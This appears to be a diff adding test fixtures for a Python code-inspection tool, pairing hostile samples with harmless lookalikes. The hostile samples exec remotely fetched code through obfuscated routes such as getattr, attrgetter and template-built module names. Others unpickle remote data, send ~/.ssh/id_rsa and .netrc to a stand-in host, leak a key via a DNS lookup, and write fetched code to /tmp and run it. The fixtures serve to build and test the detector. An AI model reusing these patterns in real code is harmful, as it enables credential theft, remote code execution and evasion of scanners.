@@ -1,0 +1,111 @@
+"""Ways a value takes through Python and shell: for each a hostile sample, and the twin that takes another way."""
+
+from inspection.rules.sample import Sample, py
+
+_GET = "requests.get('https://a.invalid').text"
+
+HOSTILE: dict[str, dict[str, Sample]] = {
+    "remote_code": {
+        "in the body of a class": py(
+            f"import requests\nclass Level:\n    if True:\n        t = {_GET}\n    exec(t)\n", line=5
+        ),
+        "an annotated member of a class": py(
+            f"import requests\nclass Level:\n    text: str = {_GET}\n    def show(self): exec(self.text)\n", line=4
+        ),
+        "a class within a class": py(
+            f"import requests\nclass Game:\n    class Level:\n        text = {_GET}\nexec(Game.Level.text)\n", line=5
+        ),
+        "a name from a template": py(f"import sys, requests\nsys.modules['%s%s' % ('buil', 'tins')].exec({_GET})\n"),
+        "a name from a template of many places": py(
+            f"import sys, requests\nsys.modules[('{{}}' * 2).format(*['buil', 'tins'])].exec({_GET})\n"
+        ),
+        "a name from a named place": py(
+            f"import sys, requests\nsys.modules['%(a)stins' % {{'a': 'buil'}}].exec({_GET})\n"
+        ),
+        "by attrgetter": py(f"import operator, builtins, requests\noperator.attrgetter('exec')(builtins)({_GET})\n"),
+        "the first of a list": py(f"import requests\nnext(iter([exec]))({_GET})\n"),
+        "a method by getattr": py(f"import requests\ngetattr({{'a': eval}}, 'get')('a')({_GET})\n"),
+    },
+    "remote_object": {
+        "a tuple of objects that are asked in turn": Sample(
+            {
+                "app.py": "from net import Source\nfrom reading import read\n"
+                "ALL = (Source('a'), Source('b'))\nprint([read(each.get('c')) for each in ALL])\n",
+                "net.py": "import requests\nclass Source:\n    def __init__(self, base): self.base = base\n"
+                "    def get(self, path): return requests.get(f'https://a.invalid/{self.base}/{path}').content\n",
+                "reading.py": "import pickle\ndef read(data):\n    return pickle.loads(data)\n",
+            },
+            "block",
+            ("net.py", 4),
+        ),
+    },
+    "secrets_sent": {
+        "one object reads, another sends": Sample(
+            {
+                "app.py": "from machine import Files\nfrom out import Out\nOut('https://a.invalid').put(Files().all())\n",
+                "machine.py": "from pathlib import Path\nclass Files:\n    names = ('.ssh/id_rsa', '.netrc')\n"
+                "    def all(self):\n        paths = [Path.home() / name for name in self.names]\n"
+                "        return b''.join(path.read_bytes() for path in paths)\n",
+                "out.py": "import requests\nclass Out:\n    def __init__(self, url): self.url = url\n"
+                "    def put(self, data): requests.post(self.url, data=data)\n",
+            },
+            "block",
+            ("machine.py", 6),
+        ),
+        "as a name to be looked up": py(
+            "import socket\nkey = open('/root/.ssh/id_rsa', 'rb').read()\n"
+            "socket.gethostbyname(key[:30].hex() + '.a.invalid')\n",
+            line=3,
+        ),
+    },
+    "remote_command": {
+        "written by getattr, then run": py(
+            f"import requests, subprocess, sys\ngetattr(open('/tmp/x.py', 'w'), 'write')({_GET})\n"
+            "subprocess.run([sys.executable, '/tmp/x.py'])\n"
+        ),
+    },
+}
+
+HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
+    "remote_code": {
+        "a name of a class body is no name outside": {
+            "app.py": f"import requests\nclass Level:\n    t = {_GET}\nt = 'x = 1'\nexec(t)\n"
+        },
+        "a template that names something else": {
+            "app.py": f"import sys, requests\nsys.modules['%s%s' % ('pri', 'nts')].show({_GET})\n"
+        },
+        "attrgetter of another member": {
+            "app.py": f"import operator, builtins, requests\noperator.attrgetter('len')(builtins)({_GET})\n"
+        },
+        "the first of a list of something else": {"app.py": f"import requests\nnext(iter([len, exec]))({_GET})\n"},
+    },
+    "remote_object": {
+        "a tuple of objects, and a reader of plain data": {
+            "app.py": "from net import Source\nfrom reading import read\n"
+            "ALL = (Source('a'), Source('b'))\nprint([read(each.get('c')) for each in ALL])\n",
+            "net.py": "import requests\nclass Source:\n    def __init__(self, base): self.base = base\n"
+            "    def get(self, path): return requests.get(f'https://a.invalid/{self.base}/{path}').content\n",
+            "reading.py": "import json, pickle\ndef read(data):\n    return json.loads(data)\n"
+            "def own(data):\n    return pickle.loads(data)\n",
+        },
+    },
+    "secrets_sent": {
+        "one object reads files of the project, another sends": {
+            "app.py": "from machine import Files\nfrom out import Out\nOut('https://a.invalid').put(Files().all())\n",
+            "machine.py": "from pathlib import Path\nclass Files:\n    names = ('a.txt', 'b.txt')\n"
+            "    def all(self):\n        paths = [Path.home() / name for name in self.names]\n"
+            "        return b''.join(path.read_bytes() for path in paths)\n",
+            "out.py": "import requests\nclass Out:\n    def __init__(self, url): self.url = url\n"
+            "    def put(self, data): requests.post(self.url, data=data)\n",
+        },
+        "a host is looked up": {
+            "app.py": "import socket\nkey = open('/root/.ssh/id_rsa', 'rb').read()\nsocket.gethostbyname('a.invalid')\n"
+        },
+    },
+    "remote_command": {
+        "written, and another run": {
+            "app.py": f"import requests, subprocess, sys\ngetattr(open('/tmp/x.py', 'w'), 'write')({_GET})\n"
+            "subprocess.run([sys.executable, '/tmp/y.py'])\n"
+        },
+    },
+}
